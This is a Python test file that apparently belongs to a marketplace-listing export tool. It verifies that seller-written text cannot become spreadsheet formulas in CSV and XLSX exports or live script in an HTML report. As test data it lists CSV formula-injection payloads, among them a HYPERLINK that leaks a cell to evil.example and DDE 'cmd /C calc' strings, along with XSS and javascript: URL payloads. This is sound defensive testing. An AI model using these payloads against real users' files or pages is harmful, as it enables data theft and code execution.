"""Whatever a seller writes in a title or shop name reaches Excel as text and the browser as text
(RELIABILITY.md, "Text")."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from exports.complaints import plan_batches, write_complaints
from exports.report_html import render_report_html
from exports.review_csv import write_review_csv
from tests.export_fixtures import listing, make_registry

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1\n=2+2", '"=1+1"', "=DDE(\"cmd\";\"/C calc\";\"x\")"]
SELLER_TEXT = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds("{}{}".format, st.sampled_from(["=", "+", "-", "@", "\t", "\r", "", " ", "'"]), st.text(max_size=30)),
)
EXPORT = settings(max_examples=25, deadline=None, derandomize=True,
                  suppress_health_check=[HealthCheck.function_scoped_fixture])


@pytest.fixture(scope="module")
def registry(tmp_path_factory):
    return make_registry(tmp_path_factory.mktemp("registry"))


def _csv_cells(path: Path) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")) for cell in row]


def _assert_inert(cells: list[str], where: str) -> None:
    for cell in cells:
        assert not cell.startswith(TRIGGERS), f"{where}: a spreadsheet would run {cell!r}"


@EXPORT
@given(title=SELLER_TEXT, seller=SELLER_TEXT)
def test_seller_text_is_never_a_formula_in_the_review_csv_the_batch_csv_or_the_xlsx(tmp_path_factory, registry,
                                                                                     title, seller):
    out = tmp_path_factory.mktemp("exports")
    item = listing(title=title, seller_name=seller, explanation=f"title has {title!r}")
    write_review_csv([item], out / "review.csv", registry=registry)
    _assert_inert(_csv_cells(out / "review.csv"), "review.csv")
    write_complaints(plan_batches([item], registry), out / "complaints", registry)
    for batch in (out / "complaints").rglob("batch-*.csv"):
        _assert_inert(_csv_cells(batch), batch.name)
    book = load_workbook(out / "complaints" / "complaints.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    _assert_inert([str(cell.value) for cell in cells if isinstance(cell.value, str)], "complaints.xlsx")


HTML_TEXT = st.one_of(
    st.sampled_from(['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'><svg/onload=alert(1)>",
                     "</script><script>alert(1)</script>", "\u202e>tpircs<", "<!--", "]]>", "{{ 7*7 }}", "{% raw %}"]),
    st.text(alphabet=st.sampled_from(list("<>\"'&/=; scriptalert()\u202e\u200b露莫拉LUMORA{}%")), max_size=40),
)


@settings(max_examples=60, deadline=None, derandomize=True)
@given(title=HTML_TEXT, seller=HTML_TEXT, url_tail=HTML_TEXT)
def test_seller_text_in_the_html_report_is_escaped_and_only_the_nonced_script_runs(title, seller, url_tail):
    page = render_report_html([listing(title=title, seller_name=seller, explanation=title,
                                       url="https://item.taobao.com/item.htm?id=1&x=" + url_tail)])
    nonce = re.search(r"script-src 'nonce-([A-Za-z0-9_-]+)'", page).group(1)
    assert re.findall(r"<script\b[^>]*>", page, re.I) == [f'<script nonce="{nonce}">']
    assert not re.search(r"<(?:img|svg|iframe|object)\b[^>]*\bon\w+=", page, re.I)
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page).group(1)
    assert "default-src 'none'" in policy


@pytest.mark.parametrize("url", ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
                                 "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"])
def test_a_listing_url_that_is_not_http_never_becomes_a_link(url):
    page = render_report_html([listing(url=url)])
    assert not re.search(r'href="\s*(?:javascript|data|vbscript):', page, re.I)
